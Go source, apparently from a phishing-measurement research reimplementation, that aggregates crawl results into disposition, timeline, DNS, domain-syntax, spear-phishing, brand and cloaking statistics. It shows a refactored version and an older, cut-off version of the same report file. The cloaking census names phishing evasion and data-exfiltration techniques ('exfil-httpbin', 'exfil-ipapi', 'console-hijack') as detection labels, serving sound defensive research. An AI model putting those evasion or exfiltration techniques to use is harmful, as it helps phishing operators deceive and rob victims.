		shards[w].AddAnalysis(res.Index, res.Analysis)
		// Verdict rows are buffered in completion order and sorted by trace
		// ID at Finalize, so the segment stays schedule-independent.
		op.tracestore.Add(tracestore.VerdictOf(int64(res.Index+1), res.Analysis, nil))
		if op.evidence != nil {
			// Spill AFTER the shard fold: hot-load detection and landing
			// titles read the visit records the spill strips.
			if err := crawlerbox.SpillEvidence(op.evidence, res.Analysis); err != nil {
				errCounts[w]++
			}
		}
		if retain {
			analyses[res.Index] = res.Analysis
		}
	})
	// AnalyzeStream has returned, so the producer has exited and the
	// per-worker state is quiescent.
	for _, n := range errCounts {
		run.Errors += n
	}
	// Messages the cancelled producer never sent still count as errors.
	run.Errors += c.Len() - produced

	// Merge order is pinned by each shard's smallest message index; Merge
	// is commutative, so this is a determinism belt-and-suspenders, not a
	// correctness requirement.
	sort.SliceStable(shards, func(i, j int) bool {
		a, b := shards[i].minIdx, shards[j].minIdx
		if a < 0 {
			return false
		}
		if b < 0 {
			return true
		}
		return a < b
	})
	for _, s := range shards {
		msgShard.Merge(s)
	}
	run.shard = msgShard
	if retain {
		run.Analyses = analyses
	}
	if op.tracestore != nil {
		if err := op.tracestore.Finalize(op.observer.Traces(), op.observer.Metrics.Snapshot()); err != nil {
			return nil, fmt.Errorf("report: trace store: %w", err)
		}
	}
	return run, nil
}

// census is the memoized index behind every Run aggregate. It is computed
// lazily exactly once (Run.index), in one pass over Run.Analyses plus one
// pass over the corpus message list, and never mutated afterwards; methods
// that return slices hand out copies so callers can't corrupt it.
type census struct {
	disposition []DispositionRow
	monthly     [10]int
	table2      []urlx.TLDCount
	figure3     TimelineStats
	figure3Err  error
	spear       SpearStats
	dns         DNSStats
	syntax      SyntaxStats
	cloaks      []CloakRow
	brands      []BrandRow
	// turnstilePct / recaptchaPct are the challenge-service shares over
	// credential-harvesting messages.
	turnstilePct, recaptchaPct float64
}

// index returns the census, building it on first use.
func (r *Run) index() *census {
	r.censusOnce.Do(func() { r.census = r.buildCensus() })
	return r.census
}

// buildCensus derives the census from the run's merged shard. A streamed
// Analyze supplies the shard directly; a manually assembled Run (Corpus +
// Analyses, no shard) folds its retained analyses into a fresh shard first.
// Either way the derivations replicate the legacy single-pass census
// byte-for-byte (asserted by the equivalence tests in report_equiv_test.go).
func (r *Run) buildCensus() *census {
	s := r.shard
	if s == nil {
		s = NewCensusShard()
		if r.Corpus != nil {
			//cblint:ignore streamsafe fallback fold for manually assembled slice-backed Runs
			for i := range r.Corpus.Messages {
				s.AddMessage(&r.Corpus.Messages[i])
			}
		}
		//cblint:ignore streamsafe fallback fold for manually assembled slice-backed Runs
		for i, ma := range r.Analyses {
			s.AddAnalysis(i, ma)
		}
	}
	return s.finalize()
}

// DispositionRow is one row of the Section V breakdown.
type DispositionRow struct {
	Label   string
	Count   int
	Percent float64
}

// dispositionRows assembles the fixed-order disposition table.
func dispositionRows(counts map[string]int, total int) []DispositionRow {
	order := []string{
		crawlerbox.OutcomeNoResource.String(),
		crawlerbox.OutcomeError.String(),
		crawlerbox.OutcomeInteraction.String(),
		crawlerbox.OutcomeDownload.String(),
		crawlerbox.OutcomeActivePhish.String(),
	}
	// Partial evidence only exists under fault injection; appending the row
	// conditionally keeps the default table byte-identical to the paper's.
	if partial := crawlerbox.OutcomePartial.String(); counts[partial] > 0 {
		order = append(order, partial)
	}
	out := make([]DispositionRow, 0, len(order))
	for _, label := range order {
		row := DispositionRow{Label: label, Count: counts[label]}
		if total > 0 {
			row.Percent = 100 * float64(row.Count) / float64(total)
		}
		out = append(out, row)
	}
	return out
}

// Disposition aggregates outcomes, merging cloaked-benign into the error/
// inaccessible row the way the paper's accounting does.
func (r *Run) Disposition() []DispositionRow {
	return append([]DispositionRow(nil), r.index().disposition...)
}

// MonthlySeries returns Figure 2's per-month scanned-message counts.
func (r *Run) MonthlySeries() [10]int {
	return r.index().monthly
}

// Figure2Stats carries the volume statistics the paper reports with Fig 2.
type Figure2Stats struct {
	Mean2024, Std2024 float64
	Mean2023, Std2023 float64
	// TTest pairs the two windows in calendar order. Note: the paper's
	// published monthly aggregates (means, sigmas, and the final-quarter
	// 2023 values) cannot produce its p = 0.008 under calendar pairing —
	// the 2023 tail spike dominates the difference variance; see
	// EXPERIMENTS.md.
	TTest stats.TTestResult
	// TTestRank pairs the series by rank (largest month vs largest month),
	// the distribution-level comparison that does reach high significance.
	TTestRank stats.TTestResult
}

// Figure2 computes the monthly statistics and the paired t-tests against
// the 2023 baseline (scaled alongside the corpus).
func (r *Run) Figure2() (Figure2Stats, error) {
	series := r.MonthlySeries()
	y24 := stats.IntsToFloats(series[:])
	scale := float64(r.Corpus.Len()) / float64(dataset.TotalMessages)
	y23 := make([]float64, 10)
	for i, v := range dataset.Monthly2023 {
		y23[i] = float64(v) * scale
	}
	tt, err := stats.PairedTTest(y23, y24)
	if err != nil {
		return Figure2Stats{}, err
	}
	s23 := append([]float64{}, y23...)
	s24 := append([]float64{}, y24...)
	sort.Float64s(s23)
	sort.Float64s(s24)
	ttRank, err := stats.PairedTTest(s23, s24)
	if err != nil {
		return Figure2Stats{}, err
	}
	return Figure2Stats{
		Mean2024: stats.Mean(y24), Std2024: stats.StdDev(y24),
		Mean2023: stats.Mean(y23), Std2023: stats.StdDev(y23),
		TTest:     tt,
		TTestRank: ttRank,
	}, nil
}

// Table2 returns the TLD distribution over the crawled landing domains.
func (r *Run) Table2() []urlx.TLDCount {
	return append([]urlx.TLDCount(nil), r.index().table2...)
}

// TimelineStats carries Figure 3's summary statistics.
type TimelineStats struct {
	// Hist counts per 10-day bin under 90 days.
	HistA, HistB               [9]int
	MedianAHours, MedianBHours float64
	KurtosisA, KurtosisB       float64
	OverA, OverB               int // domains beyond 90 days
	DomainCount                int
}

// timelineStats joins each landing domain's WHOIS registration and
// certificate issuance against the mean delivery time of its messages.
func timelineStats(groups map[string]*groupCell, keys []string) (TimelineStats, error) {
	deltaA := make([]float64, 0, len(keys))
	deltaB := make([]float64, 0, len(keys))
	for _, key := range keys {
		g := groups[key]
		avgDelivery := time.Unix(g.sumUnix/int64(g.count), 0)
		if g.regIdx >= 0 {
			deltaA = append(deltaA, avgDelivery.Sub(g.reg).Hours())
		}
		if g.certIdx >= 0 {
			deltaB = append(deltaB, avgDelivery.Sub(g.cert).Hours())
		}
	}
	out := TimelineStats{DomainCount: len(groups)}
	const ninetyDaysHours = 90 * 24
	fill := func(xs []float64, hist *[9]int, over *int) {
		for _, x := range xs {
			if x >= ninetyDaysHours {
				*over++
				continue
			}
			bin := int(x / (10 * 24))
			if bin < 0 {
				bin = 0
			}
			if bin > 8 {
				bin = 8
			}
			hist[bin]++
		}
	}
	fill(deltaA, &out.HistA, &out.OverA)
	fill(deltaB, &out.HistB, &out.OverB)
	var err error
	if out.MedianAHours, err = stats.Median(deltaA); err != nil {
		return out, err
	}
	if out.MedianBHours, err = stats.Median(deltaB); err != nil {
		return out, err
	}
	if out.KurtosisA, err = stats.Kurtosis(deltaA); err != nil {
		return out, err
	}
	if out.KurtosisB, err = stats.Kurtosis(deltaB); err != nil {
		return out, err
	}
	return out, nil
}

// Figure3 returns the memoized deployment-timeline statistics.
func (r *Run) Figure3() (TimelineStats, error) {
	c := r.index()
	return c.figure3, c.figure3Err
}

// SpearStats carries the Section V-A classification shares.
type SpearStats struct {
	Active, Spear, HotLoad int
	SpearPercent           float64
	HotLoadPercent         float64
	DistinctDomains        int
	DistinctURLs           int
	MeanMsgsPerDomain      float64
	MedianMsgsPerDomain    float64
	MaxMsgsPerDomain       int
}

// spearStats assembles the spear-phishing aggregate from census counters.
func spearStats(active, spear, hotLoad, distinctURLs int,
	groups map[string]*groupCell, keys []string) SpearStats {
	out := SpearStats{
		Active: active, Spear: spear, HotLoad: hotLoad,
		DistinctDomains: len(groups),
		DistinctURLs:    distinctURLs,
	}
	if out.Active > 0 {
		out.SpearPercent = 100 * float64(out.Spear) / float64(out.Active)
	}
	if out.Spear > 0 {
		out.HotLoadPercent = 100 * float64(out.HotLoad) / float64(out.Spear)
	}
	counts := make([]float64, 0, len(keys))
	maxC := 0
	for _, key := range keys {
		g := groups[key]
		counts = append(counts, float64(g.count))
		if g.count > maxC {
			maxC = g.count
		}
	}
	out.MaxMsgsPerDomain = maxC
	out.MeanMsgsPerDomain = stats.Mean(counts)
	out.MedianMsgsPerDomain, _ = stats.Median(counts)
	return out
}

// Spear returns the memoized spear-phishing classification aggregate.
func (r *Run) Spear() SpearStats {
	return r.index().spear
}

// hotLoads detects hot-loaded brand assets from the recorded traffic.
func hotLoads(ma *crawlerbox.MessageAnalysis) bool {
	for _, v := range ma.Visits {
		if v.Result == nil {
			continue
		}
		for _, req := range v.Result.Requests {
			if (req.Initiator == "img" || req.Initiator == "stylesheet") &&
				strings.Contains(req.URL, ".example/assets/") {
				return true
			}
		}
	}
	return false
}

// HotLoadReferrals counts brand-asset requests that arrived carrying a
// Referer header — the referral-trail early-warning signal of Section V-A.
// It reads the corpus network's exchange ledger through the zero-copy
// iterator, so the count reflects the live ledger without copying it.
func (r *Run) HotLoadReferrals() int {
	count := 0
	r.Corpus.Net.EachTraffic(func(e *webnet.LoggedExchange) bool {
		if e.Request.Path == "/assets/logo.png" && e.Request.Header("Referer") != "" {
			count++
		}
		return true
	})
	return count
}

// DNSStats carries the Umbrella-style medians.
type DNSStats struct {
	SingleMedianTotal, SingleMedianMax float64
	MultiMedianTotal, MultiMedianMax   float64
	Top3Totals                         []int
}

// dnsStats computes passive-DNS medians for single- vs multi-message
// landing domains, excluding compromised and abused-service hosts the way
// the paper filters them.
func dnsStats(groups map[string]*groupCell, keys []string) DNSStats {
	var st, sm, mt, mm []float64
	var totals []int
	for _, key := range keys {
		g := groups[key]
		if g.firstSkipDNS {
			continue
		}
		total := float64(g.firstDNSTotal)
		maxDaily := float64(g.firstDNSMax)
		totals = append(totals, g.firstDNSTotal)
		if g.count == 1 {
			st = append(st, total)
			sm = append(sm, maxDaily)
		} else {
			mt = append(mt, total)
			mm = append(mm, maxDaily)
		}
	}
	sort.Sort(sort.Reverse(sort.IntSlice(totals)))
	if len(totals) > 3 {
		totals = totals[:3]
	}
	out := DNSStats{Top3Totals: totals}
	out.SingleMedianTotal, _ = stats.Median(st)
	out.SingleMedianMax, _ = stats.Median(sm)
	out.MultiMedianTotal, _ = stats.Median(mt)
	out.MultiMedianMax, _ = stats.Median(mm)
	return out
}

// DNSVolumes returns the memoized passive-DNS volume aggregate.
func (r *Run) DNSVolumes() DNSStats {
	d := r.index().dns
	d.Top3Totals = append([]int(nil), d.Top3Totals...)
	return d
}

// SyntaxStats counts deceptive domain syntax among landing domains.
type SyntaxStats struct {
	Domains   int
	Deceptive int
	Percent   float64
	Punycode  int
}

// syntaxStats runs the deception analyzer over the deduped landing hosts.
func syntaxStats(hosts []string) SyntaxStats {
	analyzer := urlx.NewDeceptionAnalyzer([]string{
		"acme", "acmetraveltech", "skybooker", "farewell", "transitgo",
		"payroute", "microsoft", "onedrive", "office", "docusign", "excel",
	})
	out := SyntaxStats{}
	for _, host := range hosts {
		out.Domains++
		techniques := analyzer.Analyze(host)
		if len(techniques) > 0 {
			out.Deceptive++
		}
		for _, tech := range techniques {
			if tech == urlx.DeceptionPunycode {
				out.Punycode++
			}
		}
	}
	if out.Domains > 0 {
		out.Percent = 100 * float64(out.Deceptive) / float64(out.Domains)
	}
	return out
}

// DomainSyntax returns the memoized deceptive-syntax aggregate.
func (r *Run) DomainSyntax() SyntaxStats {
	return r.index().syntax
}

// CloakRow is one row of the evasion-prevalence table.
type CloakRow struct {
	Technique string
	Messages  int
}

// countCloaks tallies one analysis's evasion techniques into counts.
func countCloaks(counts map[string]int, ma *crawlerbox.MessageAnalysis) {
	c := ma.Cloaks
	add := func(name string, present bool) {
		if present {
			counts[name]++
		}
	}
	add("turnstile", c.Turnstile)
	add("recaptcha", c.ReCaptcha)
	add("fingerprint-gate", c.FingerprintGate)
	add("interaction-gate", c.InteractionGate)
	add("delayed-reveal", c.DelayedReveal)
	add("otp-prompt", c.OTPPrompt)
	add("math-challenge", c.MathChallenge)
	add("console-hijack", c.ConsoleHijack)
	add("debugger-timer", c.DebuggerTimer)
	add("hue-rotate", c.HueRotate)
	add("victim-check", c.VictimCheck)
	add("fingerprint-library", c.FingerprintLib)
	add("exfil-httpbin", c.ExfilHTTPBin)
	add("exfil-ipapi", c.ExfilIPAPI)
	add("tokenized-url", c.TokenizedURL)
	add("noise-padding", ma.Parse.NoisePadded)
	add("faulty-qr", ma.Parse.FaultyQR)
}

// cloakRows orders the evasion census by count (desc), then name.
func cloakRows(counts map[string]int) []CloakRow {
	names := make([]string, 0, len(counts))
	for n := range counts {
		names = append(names, n)
	}
	sort.Slice(names, func(i, j int) bool {
		if counts[names[i]] != counts[names[j]] {
			return counts[names[i]] > counts[names[j]]
		}
		return names[i] < names[j]
	})
	out := make([]CloakRow, 0, len(names))
	for _, n := range names {
		out = append(out, CloakRow{Technique: n, Messages: counts[n]})
	}
	return out
}

// CloakPrevalence counts evasion techniques across active-phish messages.
func (r *Run) CloakPrevalence() []CloakRow {
	return append([]CloakRow(nil), r.index().cloaks...)
}

// BrandRow is one row of the non-targeted impersonation breakdown.
type BrandRow struct {
	Brand   string
	Domains int
}

// knownBrands are the page-title markers of the Section V-B review, checked
// in order (most specific first).
var knownBrands = []string{"MICROSOFT EXCEL", "ONEDRIVE", "OFFICE 365", "DOCUSIGN", "MICROSOFT"}

// brandOfTitle maps an upper-cased page title to its brand bucket.
func brandOfTitle(title string) string {
	for _, k := range knownBrands {
		if strings.Contains(title, k) {
			return k
		}
	}
	return "OTHER"
}

// brandRows orders the brand census by domain count (desc), then name.
func brandRows(counts map[string]int) []BrandRow {
	out := make([]BrandRow, 0, len(counts))
	for b, c := range counts {
		out = append(out, BrandRow{Brand: b, Domains: c})
	}
	sort.Slice(out, func(i, j int) bool {
		if out[i].Domains != out[j].Domains {
			return out[i].Domains > out[j].Domains
		}
		return out[i].Brand < out[j].Brand
	})
	return out
}

// NonTargetedBrands classifies the non-spear active-phish landing pages by
// the brand named in their page titles — the crawl-derived version of the
// paper's Section V-B manual review (Microsoft 44, Excel 20, OneDrive 12,
// Office 365 11, DocuSign 1, others 42).
func (r *Run) NonTargetedBrands() []BrandRow {
	return append([]BrandRow(nil), r.index().brands...)
}

// landingTitle returns the upper-cased <title> of the phishing visit.
func landingTitle(ma *crawlerbox.MessageAnalysis) string {
	for _, v := range ma.Visits {
		if v.Result == nil || v.Result.DOM == nil {
			continue
		}
		for _, t := range htmlxFind(v.Result) {
			return strings.ToUpper(t)
		}
	}
	return ""
}

// TurnstileShare returns the Turnstile and reCAPTCHA shares over the
// credential-harvesting messages (the paper's 74.4% / 24.8%).
func (r *Run) TurnstileShare() (turnstilePct, recaptchaPct float64) {
	c := r.index()
	return c.turnstilePct, c.recaptchaPct
}

// htmlxFind extracts title texts from a visit result.
func htmlxFind(res *browser.Result) []string {
	var out []string
	for _, n := range htmlx.Find(res.DOM, "title") {
		if t := strings.TrimSpace(n.InnerText()); t != "" {
			out = append(out, t)
		}
	}
	return out
}

// dedupe returns xs without duplicates, preserving first-seen order, in a
// single pass with exactly one map and one slice allocation.
func dedupe(xs []string) []string {
	seen := make(map[string]struct{}, len(xs))
	out := make([]string, 0, len(xs))
	for _, x := range xs {
		if _, dup := seen[x]; dup {
			continue
		}
		seen[x] = struct{}{}
		out = append(out, x)
	}
	return out
}
