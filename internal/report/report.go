// Package report runs the CrawlerBox pipeline over a generated corpus and
// aggregates the paper's tables and figures: the message-disposition
// breakdown, Figure 2's monthly series with the 2023-vs-2024 paired t-test,
// Table II's TLD distribution, Figure 3's deployment-timeline histograms
// with medians and kurtosis, the passive-DNS volume medians, the
// domain-syntax census, the spear-phishing and hot-loading shares, and the
// cloaking-prevalence table.
package report

import (
	"context"
	"fmt"
	"sort"
	"strings"
	"time"

	"crawlerbox/internal/browser"
	"crawlerbox/internal/crawlerbox"
	"crawlerbox/internal/dataset"
	"crawlerbox/internal/htmlx"
	"crawlerbox/internal/stats"
	"crawlerbox/internal/urlx"
	"crawlerbox/internal/whois"
)

// Run couples a corpus with its per-message pipeline analyses.
type Run struct {
	Corpus   *dataset.Corpus
	Analyses []*crawlerbox.MessageAnalysis
	// Errors counts messages whose analysis failed outright.
	Errors int
}

// Analyze runs the pipeline over every corpus message serially. It is
// AnalyzeParallel with one worker.
func Analyze(c *dataset.Corpus) (*Run, error) {
	return AnalyzeParallel(context.Background(), c, 1)
}

// AnalyzeParallel runs the pipeline over the corpus with a bounded worker
// pool. Each message is analyzed at its delivery time plus the paper's
// two-hour reporting lag, on a private fork of the virtual clock, with a
// seed stream keyed by its corpus index — so the aggregated Run is bitwise
// identical for every worker count. The context cancels the run; messages
// not yet analyzed at cancellation are counted in Run.Errors.
func AnalyzeParallel(ctx context.Context, c *dataset.Corpus, workers int) (*Run, error) {
	pipe := crawlerbox.New(c.Net, c.Registry)
	brands := make([]string, 0, len(c.BrandURLs))
	for b := range c.BrandURLs {
		brands = append(brands, b)
	}
	sort.Strings(brands)
	for _, b := range brands {
		if err := pipe.AddReference(b, c.BrandURLs[b]); err != nil {
			return nil, fmt.Errorf("report: reference %s: %w", b, err)
		}
	}
	specs := make([]crawlerbox.MessageSpec, len(c.Messages))
	for i := range c.Messages {
		m := &c.Messages[i]
		specs[i] = crawlerbox.MessageSpec{
			Raw: m.Raw,
			ID:  int64(i + 1),
			At:  m.Delivered.Add(2 * time.Hour),
		}
	}
	run := &Run{Corpus: c}
	for _, res := range pipe.AnalyzeCorpus(ctx, specs, workers) {
		if res.Err != nil {
			run.Errors++
			run.Analyses = append(run.Analyses, nil)
			continue
		}
		run.Analyses = append(run.Analyses, res.Analysis)
	}
	return run, nil
}

// DispositionRow is one row of the Section V breakdown.
type DispositionRow struct {
	Label   string
	Count   int
	Percent float64
}

// Disposition aggregates outcomes, merging cloaked-benign into the error/
// inaccessible row the way the paper's accounting does.
func (r *Run) Disposition() []DispositionRow {
	counts := map[string]int{}
	total := 0
	for _, ma := range r.Analyses {
		if ma == nil {
			continue
		}
		total++
		label := ma.Outcome.String()
		if ma.Outcome == crawlerbox.OutcomeCloaked {
			label = crawlerbox.OutcomeError.String()
		}
		counts[label]++
	}
	order := []string{
		crawlerbox.OutcomeNoResource.String(),
		crawlerbox.OutcomeError.String(),
		crawlerbox.OutcomeInteraction.String(),
		crawlerbox.OutcomeDownload.String(),
		crawlerbox.OutcomeActivePhish.String(),
	}
	out := make([]DispositionRow, 0, len(order))
	for _, label := range order {
		row := DispositionRow{Label: label, Count: counts[label]}
		if total > 0 {
			row.Percent = 100 * float64(row.Count) / float64(total)
		}
		out = append(out, row)
	}
	return out
}

// MonthlySeries returns Figure 2's per-month scanned-message counts.
func (r *Run) MonthlySeries() [10]int {
	var out [10]int
	for _, m := range r.Corpus.Messages {
		if m.Month >= 0 && m.Month < 10 {
			out[m.Month]++
		}
	}
	return out
}

// Figure2Stats carries the volume statistics the paper reports with Fig 2.
type Figure2Stats struct {
	Mean2024, Std2024 float64
	Mean2023, Std2023 float64
	// TTest pairs the two windows in calendar order. Note: the paper's
	// published monthly aggregates (means, sigmas, and the final-quarter
	// 2023 values) cannot produce its p = 0.008 under calendar pairing —
	// the 2023 tail spike dominates the difference variance; see
	// EXPERIMENTS.md.
	TTest stats.TTestResult
	// TTestRank pairs the series by rank (largest month vs largest month),
	// the distribution-level comparison that does reach high significance.
	TTestRank stats.TTestResult
}

// Figure2 computes the monthly statistics and the paired t-tests against
// the 2023 baseline (scaled alongside the corpus).
func (r *Run) Figure2() (Figure2Stats, error) {
	series := r.MonthlySeries()
	y24 := stats.IntsToFloats(series[:])
	scale := float64(len(r.Corpus.Messages)) / float64(dataset.TotalMessages)
	y23 := make([]float64, 10)
	for i, v := range dataset.Monthly2023 {
		y23[i] = float64(v) * scale
	}
	tt, err := stats.PairedTTest(y23, y24)
	if err != nil {
		return Figure2Stats{}, err
	}
	s23 := append([]float64{}, y23...)
	s24 := append([]float64{}, y24...)
	sort.Float64s(s23)
	sort.Float64s(s24)
	ttRank, err := stats.PairedTTest(s23, s24)
	if err != nil {
		return Figure2Stats{}, err
	}
	return Figure2Stats{
		Mean2024: stats.Mean(y24), Std2024: stats.StdDev(y24),
		Mean2023: stats.Mean(y23), Std2023: stats.StdDev(y23),
		TTest:     tt,
		TTestRank: ttRank,
	}, nil
}

// landingDomains groups active-phish analyses by registrable landing domain.
func (r *Run) landingDomains() map[string][]*crawlerbox.MessageAnalysis {
	out := map[string][]*crawlerbox.MessageAnalysis{}
	for _, ma := range r.Analyses {
		if ma == nil || ma.Outcome != crawlerbox.OutcomeActivePhish || ma.Landing == nil {
			continue
		}
		out[ma.Landing.Registrable] = append(out[ma.Landing.Registrable], ma)
	}
	return out
}

// Table2 returns the TLD distribution over the crawled landing domains.
func (r *Run) Table2() []urlx.TLDCount {
	var hosts []string
	for _, ma := range r.Analyses {
		if ma == nil || ma.Landing == nil {
			continue
		}
		hosts = append(hosts, ma.Landing.Host)
	}
	hosts = dedupe(hosts)
	return urlx.TLDDistribution(hosts)
}

// TimelineStats carries Figure 3's summary statistics.
type TimelineStats struct {
	// Hist counts per 10-day bin under 90 days.
	HistA, HistB               [9]int
	MedianAHours, MedianBHours float64
	KurtosisA, KurtosisB       float64
	OverA, OverB               int // domains beyond 90 days
	DomainCount                int
}

// Figure3 joins each landing domain's WHOIS registration and certificate
// issuance against the mean delivery time of its messages.
func (r *Run) Figure3() (TimelineStats, error) {
	groups := r.landingDomains()
	var deltaA, deltaB []float64
	for _, analyses := range groups {
		var sumUnix int64
		var reg, cert time.Time
		var haveReg, haveCert bool
		for _, ma := range analyses {
			sumUnix += ma.AnalyzedAt.Unix()
			if ma.Landing.Whois != nil {
				reg = ma.Landing.Whois.Registered
				haveReg = true
			}
			if ma.Landing.Cert != nil {
				cert = ma.Landing.Cert.IssuedAt
				haveCert = true
			}
		}
		avgDelivery := time.Unix(sumUnix/int64(len(analyses)), 0)
		if haveReg {
			deltaA = append(deltaA, avgDelivery.Sub(reg).Hours())
		}
		if haveCert {
			deltaB = append(deltaB, avgDelivery.Sub(cert).Hours())
		}
	}
	out := TimelineStats{DomainCount: len(groups)}
	const ninetyDaysHours = 90 * 24
	fill := func(xs []float64, hist *[9]int, over *int) {
		for _, x := range xs {
			if x >= ninetyDaysHours {
				*over++
				continue
			}
			bin := int(x / (10 * 24))
			if bin < 0 {
				bin = 0
			}
			if bin > 8 {
				bin = 8
			}
			hist[bin]++
		}
	}
	fill(deltaA, &out.HistA, &out.OverA)
	fill(deltaB, &out.HistB, &out.OverB)
	var err error
	if out.MedianAHours, err = stats.Median(deltaA); err != nil {
		return out, err
	}
	if out.MedianBHours, err = stats.Median(deltaB); err != nil {
		return out, err
	}
	if out.KurtosisA, err = stats.Kurtosis(deltaA); err != nil {
		return out, err
	}
	if out.KurtosisB, err = stats.Kurtosis(deltaB); err != nil {
		return out, err
	}
	return out, nil
}

// SpearStats carries the Section V-A classification shares.
type SpearStats struct {
	Active, Spear, HotLoad int
	SpearPercent           float64
	HotLoadPercent         float64
	DistinctDomains        int
	DistinctURLs           int
	MeanMsgsPerDomain      float64
	MedianMsgsPerDomain    float64
	MaxMsgsPerDomain       int
}

// Spear aggregates the spear-phishing classification results.
func (r *Run) Spear() SpearStats {
	out := SpearStats{}
	urls := map[string]bool{}
	for _, ma := range r.Analyses {
		if ma == nil || ma.Outcome != crawlerbox.OutcomeActivePhish {
			continue
		}
		out.Active++
		if ma.SpearPhish {
			out.Spear++
			if ma.HotLoadsRef || hotLoads(ma) {
				out.HotLoad++
			}
		}
		if ma.Landing != nil {
			urls[ma.Landing.URL] = true
		}
	}
	groups := r.landingDomains()
	out.DistinctDomains = len(groups)
	out.DistinctURLs = len(urls)
	if out.Active > 0 {
		out.SpearPercent = 100 * float64(out.Spear) / float64(out.Active)
	}
	if out.Spear > 0 {
		out.HotLoadPercent = 100 * float64(out.HotLoad) / float64(out.Spear)
	}
	var counts []float64
	maxC := 0
	for _, g := range groups {
		counts = append(counts, float64(len(g)))
		if len(g) > maxC {
			maxC = len(g)
		}
	}
	out.MaxMsgsPerDomain = maxC
	out.MeanMsgsPerDomain = stats.Mean(counts)
	out.MedianMsgsPerDomain, _ = stats.Median(counts)
	return out
}

// hotLoads detects hot-loaded brand assets from the recorded traffic.
func hotLoads(ma *crawlerbox.MessageAnalysis) bool {
	for _, v := range ma.Visits {
		if v.Result == nil {
			continue
		}
		for _, req := range v.Result.Requests {
			if (req.Initiator == "img" || req.Initiator == "stylesheet") &&
				strings.Contains(req.URL, ".example/assets/") {
				return true
			}
		}
	}
	return false
}

// DNSStats carries the Umbrella-style medians.
type DNSStats struct {
	SingleMedianTotal, SingleMedianMax float64
	MultiMedianTotal, MultiMedianMax   float64
	Top3Totals                         []int
}

// DNSVolumes computes passive-DNS medians for single- vs multi-message
// landing domains, excluding compromised and abused-service hosts the way
// the paper filters them.
func (r *Run) DNSVolumes() DNSStats {
	groups := r.landingDomains()
	var st, sm, mt, mm []float64
	var totals []int
	for _, analyses := range groups {
		first := analyses[0]
		if first.Landing.Whois != nil && first.Landing.Whois.Provenance != whois.ProvenanceFresh {
			continue
		}
		total := float64(first.Landing.DNS30DayTotal)
		maxDaily := float64(first.Landing.DNSMaxDaily)
		totals = append(totals, first.Landing.DNS30DayTotal)
		if len(analyses) == 1 {
			st = append(st, total)
			sm = append(sm, maxDaily)
		} else {
			mt = append(mt, total)
			mm = append(mm, maxDaily)
		}
	}
	sort.Sort(sort.Reverse(sort.IntSlice(totals)))
	if len(totals) > 3 {
		totals = totals[:3]
	}
	out := DNSStats{Top3Totals: totals}
	out.SingleMedianTotal, _ = stats.Median(st)
	out.SingleMedianMax, _ = stats.Median(sm)
	out.MultiMedianTotal, _ = stats.Median(mt)
	out.MultiMedianMax, _ = stats.Median(mm)
	return out
}

// SyntaxStats counts deceptive domain syntax among landing domains.
type SyntaxStats struct {
	Domains   int
	Deceptive int
	Percent   float64
	Punycode  int
}

// DomainSyntax runs the deception analyzer over every landing host.
func (r *Run) DomainSyntax() SyntaxStats {
	analyzer := urlx.NewDeceptionAnalyzer([]string{
		"acme", "acmetraveltech", "skybooker", "farewell", "transitgo",
		"payroute", "microsoft", "onedrive", "office", "docusign", "excel",
	})
	seen := map[string]bool{}
	out := SyntaxStats{}
	for _, ma := range r.Analyses {
		if ma == nil || ma.Landing == nil || seen[ma.Landing.Host] {
			continue
		}
		seen[ma.Landing.Host] = true
		out.Domains++
		techniques := analyzer.Analyze(ma.Landing.Host)
		if len(techniques) > 0 {
			out.Deceptive++
		}
		for _, tech := range techniques {
			if tech == urlx.DeceptionPunycode {
				out.Punycode++
			}
		}
	}
	if out.Domains > 0 {
		out.Percent = 100 * float64(out.Deceptive) / float64(out.Domains)
	}
	return out
}

// CloakRow is one row of the evasion-prevalence table.
type CloakRow struct {
	Technique string
	Messages  int
}

// CloakPrevalence counts evasion techniques across active-phish messages.
func (r *Run) CloakPrevalence() []CloakRow {
	counts := map[string]int{}
	for i, ma := range r.Analyses {
		if ma == nil {
			continue
		}
		c := ma.Cloaks
		add := func(name string, present bool) {
			if present {
				counts[name]++
			}
		}
		add("turnstile", c.Turnstile)
		add("recaptcha", c.ReCaptcha)
		add("fingerprint-gate", c.FingerprintGate)
		add("interaction-gate", c.InteractionGate)
		add("delayed-reveal", c.DelayedReveal)
		add("otp-prompt", c.OTPPrompt)
		add("math-challenge", c.MathChallenge)
		add("console-hijack", c.ConsoleHijack)
		add("debugger-timer", c.DebuggerTimer)
		add("hue-rotate", c.HueRotate)
		add("victim-check", c.VictimCheck)
		add("fingerprint-library", c.FingerprintLib)
		add("exfil-httpbin", c.ExfilHTTPBin)
		add("exfil-ipapi", c.ExfilIPAPI)
		add("tokenized-url", c.TokenizedURL)
		add("noise-padding", ma.Parse.NoisePadded)
		add("faulty-qr", ma.Parse.FaultyQR)
		_ = i
	}
	names := make([]string, 0, len(counts))
	for n := range counts {
		names = append(names, n)
	}
	sort.Slice(names, func(i, j int) bool {
		if counts[names[i]] != counts[names[j]] {
			return counts[names[i]] > counts[names[j]]
		}
		return names[i] < names[j]
	})
	out := make([]CloakRow, 0, len(names))
	for _, n := range names {
		out = append(out, CloakRow{Technique: n, Messages: counts[n]})
	}
	return out
}

// BrandRow is one row of the non-targeted impersonation breakdown.
type BrandRow struct {
	Brand   string
	Domains int
}

// NonTargetedBrands classifies the non-spear active-phish landing pages by
// the brand named in their page titles — the crawl-derived version of the
// paper's Section V-B manual review (Microsoft 44, Excel 20, OneDrive 12,
// Office 365 11, DocuSign 1, others 42).
func (r *Run) NonTargetedBrands() []BrandRow {
	known := []string{"MICROSOFT EXCEL", "ONEDRIVE", "OFFICE 365", "DOCUSIGN", "MICROSOFT"}
	counts := map[string]int{}
	seen := map[string]bool{}
	for _, ma := range r.Analyses {
		if ma == nil || ma.Outcome != crawlerbox.OutcomeActivePhish ||
			ma.SpearPhish || ma.Landing == nil || seen[ma.Landing.Registrable] {
			continue
		}
		seen[ma.Landing.Registrable] = true
		title := landingTitle(ma)
		brand := "OTHER"
		for _, k := range known {
			if strings.Contains(title, k) {
				brand = k
				break
			}
		}
		counts[brand]++
	}
	var out []BrandRow
	for b, c := range counts {
		out = append(out, BrandRow{Brand: b, Domains: c})
	}
	sort.Slice(out, func(i, j int) bool {
		if out[i].Domains != out[j].Domains {
			return out[i].Domains > out[j].Domains
		}
		return out[i].Brand < out[j].Brand
	})
	return out
}

// landingTitle returns the upper-cased <title> of the phishing visit.
func landingTitle(ma *crawlerbox.MessageAnalysis) string {
	for _, v := range ma.Visits {
		if v.Result == nil || v.Result.DOM == nil {
			continue
		}
